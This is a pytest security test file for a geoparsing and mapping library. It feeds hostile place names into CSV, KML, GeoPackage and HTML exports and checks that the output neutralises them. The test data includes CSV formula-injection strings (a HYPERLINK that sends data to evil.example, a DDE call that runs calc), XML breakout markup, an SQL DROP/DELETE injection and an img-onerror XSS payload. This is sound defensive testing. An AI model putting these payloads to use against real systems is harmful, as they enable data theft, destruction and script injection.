"""Hostile names and texts in what geomap writes: exports, and pages in a frame of their own."""

from __future__ import annotations

import csv
import html
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import folium
import pyogrio
import pytest
from test_page import HOSTILE, Visit, save

import geomap
from geomap import corrections, export
from geomap.atlas import Atlas
from geomap.records import Alternative, Article, ParsedArticle, Place, Resolution, Toponym

CELLS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x",
    '=HYPERLINK("https://evil.example/?"&A1)', "=cmd|' /C calc'!A0", '","=1+1', "a\n=1",
]  # fmt: skip
MARKUP = "]]></description></Placemark><Placemark><name>x</name> &xxe; \x00\x0b\ud800 <!DOCTYPE"


def hostile_atlas(said: str, *more: str) -> Atlas:
    """An atlas in which everything that comes from outside is `said`, an article for each."""
    parsed = []
    for number, one in enumerate((said, *more)):
        text = f"In {one} it was. Then in {one} again."
        at = text.index(one)
        place = Place(f"geomap:{number}", one, 50.0, 30.0 + number, "settlement", source=one)
        other = Alternative(Place(one, one, 1.0, 2.0, "settlement"), 0.1)
        toponym = Toponym(one, at, at + len(one))
        found = Resolution(
            toponym, place=place, confidence=0.9, reasons=(one,), alternatives=(other,)
        )
        article = Article(f"{one}{number}", text, title=one, source=one, url=one, author=one)
        parsed.append(ParsedArticle(article, (found,)))
    return Atlas(parsed)


# ---------------------------------------------------------------- exports


def test_no_cell_of_a_table_is_a_formula_and_each_can_be_had_back(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    export.write(hostile_atlas(*CELLS), path)
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == len(CELLS)
    for row, cell in zip(rows, CELLS, strict=True):
        for column, value in row.items():
            if column not in ("latitude", "longitude"):
                assert not re.match(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", value), column
        for column in ("title", "source", "text", "name"):
            value = row[column]
            assert re.sub(r"^'(?='*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20])", "", value) == cell
        assert json.loads(row["reasons"]) == [cell]
        assert json.loads(row["alternatives"])[0]["name"] == cell


def test_markup_in_kml_is_text(tmp_path: Path) -> None:
    path = tmp_path / "a.kml"
    export.write(hostile_atlas(MARKUP.replace("\ud800", "")), path)
    root = ElementTree.parse(path).getroot()
    space = {"k": "http://www.opengis.net/kml/2.2"}
    [placemark] = root.findall(".//k:Placemark", space)
    said = MARKUP.replace("\ud800", "").replace("\x00", " ").replace("\x0b", " ")
    assert placemark.findtext("k:name", namespaces=space) == said
    assert b"<!DOCTYPE" not in path.read_bytes()


SQL = "x'; DROP TABLE mentions; --\"); DELETE FROM places; /*"


def test_sql_in_a_geopackage_is_text(tmp_path: Path) -> None:
    folder = tmp_path / SQL.replace("/", "")
    folder.mkdir()
    path = folder / f"{SQL.replace('/', '')}.gpkg"
    export.write(hostile_atlas(SQL), path)
    copy = tmp_path / "a.gpkg"
    copy.write_bytes(path.read_bytes())
    layers = [name for name, _ in pyogrio.list_layers(copy)]
    assert layers == ["places", "mentions", "regions", "articles", "layer_styles"]
    for layer, column in (("places", "name"), ("mentions", "text"), ("articles", "title")):
        assert list(pyogrio.read_dataframe(copy, layer=layer)[column]) == [SQL]


@pytest.mark.parametrize("suffix", [*export.SUFFIXES, ".html"])
@pytest.mark.parametrize("said", [HOSTILE + "\x00", MARKUP.replace("\ud800", "")])
def test_every_format_takes_any_text(said: str, suffix: str, tmp_path: Path) -> None:
    hostile_atlas(said).save(tmp_path / f"a{suffix}")
    assert (tmp_path / f"a{suffix}").stat().st_size


# ---------------------------------------------------------------- the page


@pytest.fixture
def visit(chromium: Any) -> Iterator[Callable[..., Visit]]:
    visits: list[Visit] = []

    def open_page(path: Path, **context: Any) -> Visit:
        visits.append(Visit(chromium, path, **context))
        return visits[-1]

    yield open_page
    for each in visits:
        problems = (each.outside(), each.errors)
        each.context.close()
        assert problems == ([], [])


def unharmed(page: Any) -> None:
    assert page.evaluate("window.hacked") is None
    assert page.locator("img, script[src], [onerror], a[href^=javascript]").count() == 0


@pytest.mark.parametrize("policy", [True, False])
def test_hostile_downloads_search_and_print(
    policy: bool, visit: Callable[..., Visit], tmp_path: Path
) -> None:
    path = tmp_path / "map.html"
    hostile_atlas(HOSTILE).map(title=HOSTILE).save(path)
    page = visit(path, bypass_csp=not policy, accept_downloads=True).page
    page.locator(".gm-mark").first.click()
    page.locator("[role=dialog]").get_by_text("Wrong place?").click()
    page.get_by_role("button", name="It is").first.click()
    page.fill("#gm-query", "script")
    page.wait_for_timeout(300)
    unharmed(page)
    page.fill("#gm-query", "")
    [feature, *_] = json.loads(save(page, "GeoJSON").read_text("utf-8"))["features"]
    assert feature["properties"]["text"] == HOSTILE
    row = next(csv.DictReader(save(page, "CSV").open(encoding="utf-8-sig", newline="")))
    assert row["text"] == HOSTILE
    picture = ElementTree.parse(save(page, "SVG")).getroot()
    tags = {node.tag.rpartition("}")[2] for node in picture.iter()}
    assert not tags & {"script", "img", "foreignObject"}
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    page.emulate_media(media="print")
    assert page.pdf().startswith(b"%PDF")
    unharmed(page)


def test_hostile_article_in_a_notebook_s_frame(visit: Callable[..., Visit], tmp_path: Path) -> None:
    outer = tmp_path / "notebook.html"
    figure = hostile_atlas(HOSTILE).map(title=HOSTILE)._repr_html_()
    outer.write_text(f"<html data-ready=1><body>{figure}</body></html>", encoding="utf-8")
    seen = visit(outer)
    frame = seen.page.frames[1]
    frame.wait_for_function("document.documentElement.dataset.ready")
    frame.locator(".gm-mark").first.click()
    frame.fill("#gm-query", "img")
    frame.wait_for_timeout(300)
    unharmed(frame)
    assert seen.page.evaluate("window.hacked") is None
    assert seen.page.locator("img, script").count() == 0


def test_hostile_corrections(visit: Callable[..., Visit], tmp_path: Path) -> None:
    atlas = hostile_atlas(HOSTILE)
    mention = atlas.mentions.iloc[0]
    place = {
        "id": HOSTILE, "name": HOSTILE, "kind": "settlement", "country_code": None,
        "latitude": 51.0, "longitude": 31.0,
    }  # fmt: skip
    one = {
        "article": mention["article_id"], "start": int(mention["start"]),
        "end": int(mention["end"]), "text": HOSTILE, "was": HOSTILE, "place": place,
    }  # fmt: skip
    file = tmp_path / f"{HOSTILE[:9].replace('/', '')}.json"
    file.write_text(json.dumps({"corrections": [one, {**one, "start": 10**9, "end": 10**9 + 1}]}))
    corrected = atlas.corrected(corrections.read(file))
    assert list(corrected.places["name"]) == [HOSTILE]
    path = tmp_path / "map.html"
    corrected.map().save(path)
    page = visit(path, bypass_csp=True).page
    page.locator(".gm-mark").first.click()
    assert page.locator("#gm-details-name").evaluate("node => node.textContent") == HOSTILE
    unharmed(page)


def test_a_user_s_class_and_layer_name(visit: Callable[..., Visit], tmp_path: Path) -> None:
    """What a programmer hands to Folium is theirs; a name that came from data must stay one."""
    page_map = geomap.Atlas(geomap.geoparse("Shells hit Kharkiv on Friday.")).map()
    style = '"><img src=x onerror=window.hacked=1>'
    point = {
        "type": "Feature",
        "properties": {"name": style},
        "geometry": {"type": "Point", "coordinates": [36, 50]},
    }
    marker = folium.CircleMarker([50.0, 36.0], tooltip=html.escape(style), class_name=style)
    marker.add_to(page_map)
    folium.GeoJson(point, name="points").add_to(page_map)
    path = tmp_path / "map.html"
    page_map.save(path)
    page = visit(path, bypass_csp=True).page
    page.locator(".leaflet-overlay-pane path").first.dispatch_event("mouseover")
    assert page.evaluate("window.hacked") is None


def test_a_hostile_corpus_in_a_frame(visit: Callable[..., Visit], tmp_path: Path) -> None:
    from corpus_tables import write
    from test_corpus_page import hostile

    path = tmp_path / "map.html"
    dataset = write(tmp_path / "out", [hostile()])
    geomap.Atlas.from_dataset(dataset).map(title=HOSTILE).save(path)
    outer = tmp_path / "outer.html"
    text = html.escape(path.read_text(encoding="utf-8"))
    outer.write_text(
        '<!DOCTYPE html><html lang="en" data-ready="yes"><meta charset="utf-8"><title>t</title>'
        f'<iframe sandbox="allow-scripts" style="width:1200px;height:700px" srcdoc="{text}">',
        encoding="utf-8",
    )
    seen = visit(outer)
    frame = seen.page.frames[1]
    frame.wait_for_function("document.documentElement.dataset.ready")
    frame.fill("#gm-query", "script")
    frame.press("#gm-query", "Enter")
    frame.wait_for_timeout(300)
    unharmed(frame)
    assert seen.page.evaluate("window.hacked") is None


# ---------------------------------------------------------------- the long run


def test_memory_and_handles_stay_after_many_articles(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if not Path("/proc/self/fd").is_dir():
        pytest.skip("this system does not list a process's files")
    monkeypatch.syspath_prepend(Path(__file__).parent / "benchmarks")
    import bench_long_run
    from corpus import articles

    path = tmp_path / "articles.jsonl"
    lines = (json.dumps({**one, "text": one["text"][:300]}) + "\n" for one in articles(1500))
    path.write_text("".join(lines), encoding="utf-8")
    first, *_, last = bench_long_run.run(path, 300)
    assert last.articles == 1500
    assert last.handles == first.handles
    assert last.resident - first.resident < 20e6
